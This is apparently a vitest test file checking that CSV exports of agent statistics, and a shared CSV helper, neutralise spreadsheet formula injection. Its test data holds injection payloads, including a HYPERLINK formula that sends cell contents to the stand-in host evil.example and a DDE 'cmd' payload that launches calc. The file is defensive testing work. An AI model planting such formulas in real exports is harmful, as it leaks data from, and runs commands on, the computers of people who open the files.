/**
 * CSV formula injection (OWASP "CSV Injection"): a cell a spreadsheet would read as a formula
 * (starting with = + - @, tab or CR, or their full-width forms) is exported with a leading `'`,
 * so it shows as text; numbers, including negative ones, stay numbers.
 */
import { describe, expect, it } from 'vitest';
import { statsToCsv } from '../../src/server/desk/stats';
import { toCsv } from '../../src/server/lib/csv';

/** Parses our CSV back (quoted cells, doubled quotes) to check cells, not bytes. */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"點我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)'];

describe('CSV exports neutralise formulas', () => {
  it('agent statistics: a name that is a formula is exported as text', () => {
    const rows = DANGEROUS.map((agentName, i) => ({ day: '2030-01-01', agentId: `a${i}`, agentName, handled: 1, closed: 0, avgFirstResponseSeconds: -5, avgHandleSeconds: null, ratings: 0, avgRating: null }));
    const parsed = cells(statsToCsv(rows));
    expect(parsed[0]).toEqual(['day', 'agent_id', 'agent_name', 'handled', 'closed', 'avg_first_response_seconds', 'avg_handle_seconds', 'ratings', 'avg_rating']);
    expect(parsed.slice(1).map((r) => r[2])).toEqual(DANGEROUS.map((d) => `'${d}`));
    // Numbers are data, not formulas: a negative number keeps its sign, an empty value stays empty.
    for (const r of parsed.slice(1)) expect(r.slice(3)).toEqual(['1', '0', '-5', '', '0', '']);
  });

  it('ordinary text, Chinese names, commas and quotes survive unchanged', () => {
    const names = ['慧明', '林 "小蓮", 客服', '法喜-充滿', 'a=b'];
    const rows = names.map((agentName, i) => ({ day: '2030-01-01', agentId: `b${i}`, agentName, handled: 2, closed: 1, avgFirstResponseSeconds: 30, avgHandleSeconds: 300, ratings: 1, avgRating: 4.5 }));
    const csv = statsToCsv(rows);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(cells(csv).slice(1).map((r) => r[2])).toEqual(names);
  });

  it('the shared helper: every cell position, every formula start; numbers and empties as data', () => {
    const csv = toCsv(['a', 'b', 'c'], [[...DANGEROUS.slice(0, 3)], [-1, 0n, null], [undefined, true, '']]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(cells(csv)).toEqual([['a', 'b', 'c'], DANGEROUS.slice(0, 3).map((d) => `'${d}`), ['-1', '0', ''], ['', 'true', '']]);
    for (const d of DANGEROUS) expect(cells(toCsv(['x'], [[d]]))[1]).toEqual([`'${d}`]);
  });
});
